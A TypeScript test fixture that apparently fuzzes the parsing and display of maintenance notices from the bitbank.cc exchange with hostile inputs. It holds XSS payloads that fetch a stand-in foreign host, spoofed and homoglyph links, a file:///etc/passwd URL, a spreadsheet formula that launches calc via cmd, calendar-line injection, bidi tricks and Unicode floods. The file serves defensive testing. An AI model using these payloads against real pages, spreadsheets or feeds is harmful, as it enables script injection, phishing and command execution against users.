import type { Random } from '../simulator/random.ts';
import { FOREIGN_HOST } from '../stand-in/server.ts';

/*
 * What somebody writes who wants a reader to run it, to be turned round by it, or to break under it. Each text that would
 * run asks a host that is not the exchange's, so that a run leaves a trace in the log of the stand-in.
 */

const CALL = `https://${FOREIGN_HOST}/ran`;
/** Marks the page, too: a policy may keep the request from leaving. */
const RUN = `globalThis.hostileRan=1;fetch('${CALL}')`;

const SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${CALL}/image.png">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<link rel=stylesheet href="${CALL}/style.css"><style>@import '${CALL}/more.css'</style>`,
  `<body onload="${RUN}"><details open ontoggle="${RUN}">`,
  `<base href="https://${FOREIGN_HOST}/"><a href="/x">お知らせ</a>`,
  `<meta http-equiv=refresh content="0;url=${CALL}">`,
  `<form action="${CALL}"><button autofocus onfocus="${RUN}">取引</button></form>`,
  `<object data="${CALL}"></object><embed src="${CALL}">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `--></title></style></textarea></script><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=&quot;${RUN}&quot;&amp;gt;`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
];

const LINKS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `https://bitbank.cc.${FOREIGN_HOST}/blog/articles/1`,
  `https://bitbank.cc@${FOREIGN_HOST}/blog/articles/1`,
  `https://${FOREIGN_HOST}/blog/articles/1#https://bitbank.cc/`,
  `https://bitbаnk.cc/blog/articles/1`,
  `http://bitbank.cc/blog/articles/1`,
  `//${FOREIGN_HOST}/blog/articles/1`,
  `\\\\${FOREIGN_HOST}\\x`,
  `blob:https://bitbank.cc/1`,
  `chrome-extension://x/options.html`,
  `file:///etc/passwd`,
];

const TURNS: readonly string[] = [
  '\u202E取引停止 00:2\u202C',
  '\u2066\u2067\u2068終了\u2069',
  'صيانة البورصة تبدأ الساعة',
  '\u061Cתחזוקה\u200F 25/11',
  '\u202A\u202B\u202D'.repeat(40),
];

const FLOODS: readonly ((random: Random) => string)[] = [
  (random) => '\u200B\u200C\u200D\u2060\uFEFF'.repeat(random.whole(10, 400)),
  (random) => `取${'\u0301\u0489\u20DD'.repeat(random.whole(5, 200))}引`,
  (random) => '👩‍👩‍👧‍👦'.repeat(random.whole(5, 200)),
  (random) => 'W'.repeat(random.whole(50, 4000)),
  (random) => 'あ'.repeat(random.whole(50, 4000)),
  (random) => '\u0000\u0007\u001B[31m\u009B'.repeat(random.whole(1, 50)),
  (random) => '\uD800\uDC00\uDBFF'.repeat(random.whole(1, 50)),
  (random) => '２０２６年１１月２５日'.repeat(random.whole(1, 80)),
  (random) => '\n\r\u2028\u2029\v\f'.repeat(random.whole(1, 60)),
];

const CELLS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '＝HYPERLINK("https://x")',
  '\t=1',
  '\r\nBEGIN:VEVENT\r\nSUMMARY:もう一つ\r\nEND:VEVENT',
  'END:VCALENDAR;,\\',
  '"","=1+1"',
  '|calc',
];

const NAMES: readonly string[] = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'valueOf'];

const DATES: readonly string[] = [
  '9999年99月99日 99:99〜99:99',
  '0年0月0日 0:00〜0:00',
  '275760年9月13日 9:00〜10:00',
  '-1年1月1日 1:00〜2:00',
  '2026年2月30日 25:61〜26:00',
  '1970年1月1日 0:00〜9:00',
  '9007199254740993年1月1日',
  '1e9/1e9/1e9 1e2:00',
];

/** A piece that does some harm, of a kind that `random` draws. */
export function hostilePiece(random: Random): string {
  const kinds = [
    () => random.pick(SCRIPTS),
    () => `<a href="${random.pick(LINKS)}">メンテナンス</a>`,
    () => random.pick(TURNS),
    () => random.pick(FLOODS)(random),
    () => random.pick(CELLS),
    () => random.pick(NAMES),
    () => random.pick(DATES),
  ];
  return random.pick(kinds)();
}

/** A link that is none of the exchange's, or none at all. */
export const hostileLink = (random: Random): string => random.pick(LINKS);

/** A million characters, in which nothing can be broken or everything. */
export const endlessTitle = (random: Random): string =>
  random.pick(['あ', 'W ', '👩‍👧', '\u200B', '<b>', '2:00〜']).repeat(500_000).slice(0, 1_000_000);
